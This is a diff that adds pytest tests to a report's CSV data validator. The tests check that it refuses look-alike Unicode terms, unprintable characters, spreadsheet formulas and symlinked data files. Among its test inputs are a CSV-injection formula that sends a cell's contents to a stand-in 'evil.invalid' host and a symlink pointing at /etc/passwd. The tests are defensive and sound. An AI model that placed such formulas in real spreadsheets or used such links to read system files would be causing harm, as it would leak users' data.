@@ -588,3 +588,100 @@ def test_standing_marks_each_class_and_names_the_original_of_a_copy():
     assert {"Official", "News outlet", "Research", "State media"} <= marks
     copy = sources[(sources["source_class"] == "secondary_aggregator") & sources["copy_of"].eq("Reuters")].iloc[0]
     assert standing(copy) == "Copy of Reuters"
+
+
+# --- hostile data the probe of issue 25 found accepted ----------------------------------
+
+@pytest.mark.parametrize("term", ["\u0410rticle 4", "Article 4\u3164", "ARTICLE 4", "Article\u00a04"],
+                         ids=["cyrillic-A", "hangul-filler", "upper-case", "no-break-space"])
+def test_a_glossary_term_that_looks_like_another_is_refused(data_copy, term):
+    """Issue 25, item 4: four entries that look like 'Article 4' were all accepted."""
+    row = first_row_where(data_copy, "glossary", "term", lambda v: v == "Article 4")
+    other = first_row_where(data_copy, "glossary", "term", lambda v: v == "Article 5")
+    set_cell(data_copy, "glossary", other, "term", term)
+    message = expect_error(data_copy, "glossary.csv", f"line {other + 2}", "column 'term'")
+    assert f"line {row + 2}" in message and ("looks like 'Article 4'" in message or "invisible" in message
+                                             or "mixes Cyrillic and Latin" in message), message
+
+
+def test_a_word_mixing_scripts_is_refused_anywhere(data_copy):
+    set_cell(data_copy, "incidents", 0, "notes", "Poland invoked \u0410rticle 4")
+    expect_error(data_copy, "incidents.csv", "row 1 (line 2)", "column 'notes'", "mixes Cyrillic and Latin",
+                 "U+0410 CYRILLIC CAPITAL LETTER A")
+
+
+def test_real_cyrillic_and_accented_latin_stay_accepted(data_copy):
+    set_cell(data_copy, "incidents", 0, "notes", "Минобороны России; Łódź, Malmö, Tallinn, Vilnius (Lietuvos kariuomenė)")
+    validate(data_copy)
+
+
+@pytest.mark.parametrize("text, code", [("drones \U0001F6A8", "U+1F6A8"), ("\u0394 change", "U+0394"),
+                                        ("\u5317\u7ea6 statement", "U+5317"), ("\u0646\u0627\u062a\u0648", "U+0646")],
+                         ids=["emoji", "greek", "chinese", "arabic"])
+def test_a_character_the_pdfs_cannot_set_is_refused_by_name(data_copy, text, code):
+    """Issue 25, item 5: the PDF failed late, pointing at the LaTeX log."""
+    row = first_row_where(data_copy, "sources", "title", bool)
+    set_cell(data_copy, "sources", row, "title", f"Title {text}")
+    expect_error(data_copy, "sources.csv", f"line {row + 2}", "column 'title'", code, "the PDFs cannot set")
+
+
+def test_the_pdf_characters_are_those_the_latex_encodings_declare():
+    """data.PDF_CHARACTERS lists what T1, T2A and TS1 declare in the TeX Live the build uses."""
+    from report.data import PDF_CHARACTERS
+
+    found = subprocess.run(["kpsewhich", "t1enc.dfu", "t2aenc.dfu", "ts1enc.dfu", "utf8.def"],
+                           capture_output=True, text=True)
+    files = found.stdout.split() if found.returncode == 0 else []
+    if len(files) != 4:
+        pytest.skip("TeX Live is not installed here")
+    declared = {chr(int(code, 16)) for path in files
+                for code in re.findall(r"DeclareUnicodeCharacter\{([0-9A-Fa-f]+)\}", Path(path).read_text("latin-1"))}
+    extra = {ch for ch in PDF_CHARACTERS if ord(ch) > 0x7E} - declared
+    assert not extra, sorted(f"U+{ord(ch):04X}" for ch in extra)
+
+
+@pytest.mark.parametrize("cell", ['=HYPERLINK("https://evil.invalid/?leak="&A1,"x")', "+1+2", "-2+3 km", "@SUM(A1)"])
+def test_a_spreadsheet_formula_in_a_text_cell_is_refused(data_copy, cell):
+    """Issue 25, item 6: a formula reached the published CSVs (CSV injection)."""
+    set_cell(data_copy, "incidents", 0, "notes", cell)
+    expect_error(data_copy, "incidents.csv", "row 1 (line 2)", "column 'notes'", f"begins with '{cell[0]}'", "formula")
+
+
+def test_a_negative_number_is_still_a_number(data_copy):
+    """The formula rule is for text: a negative number in a text column stays allowed."""
+    set_cell(data_copy, "incidents", 0, "notes", "-12.5")
+    validate(data_copy)
+
+
+@pytest.mark.parametrize("change, fragments", [
+    (lambda header: header.__setitem__(3, header[1]), ["header (line 1)", "appears twice", "columns 2 and 4"]),
+    (lambda header: header.append(""), ["header (line 1)", "has no name"]),
+], ids=["duplicated", "empty"])
+def test_a_duplicated_or_empty_column_name_is_named(data_copy, change, fragments):
+    """Issue 25, item 7: the message was "column '': Extra Label:"."""
+    def edit(rows):
+        change(rows[0])
+        for row in rows[1:]:
+            row.extend([""] * (len(rows[0]) - len(row)))
+    rewrite(data_copy, "incidents", edit)
+    message = expect_error(data_copy, "incidents.csv", *fragments)
+    assert "Extra Label" not in message
+
+
+@pytest.mark.parametrize("target", ["/etc/passwd", "outside.csv"])
+def test_a_symlink_in_the_data_folder_is_refused_and_not_read(data_copy, target):
+    """Issue 25, item 8: a link to /etc/passwd printed its first line; a link to a CSV
+    outside the repository was read and published."""
+    outside = data_copy.parent / "outside.csv"
+    shutil.copy(data_copy / "incidents.csv", outside)
+    (data_copy / "incidents.csv").unlink()
+    (data_copy / "incidents.csv").symlink_to(outside if target == "outside.csv" else target)
+    message = expect_error(data_copy, "incidents.csv", "symbolic link", "nothing outside the repository")
+    assert "root:" not in message
+
+
+def test_a_symlinked_datapackage_is_refused(data_copy):
+    outside = data_copy.parent / "datapackage.json"
+    (data_copy / "datapackage.json").rename(outside)
+    (data_copy / "datapackage.json").symlink_to(outside)
+    expect_error(data_copy, "datapackage.json", "symbolic link")
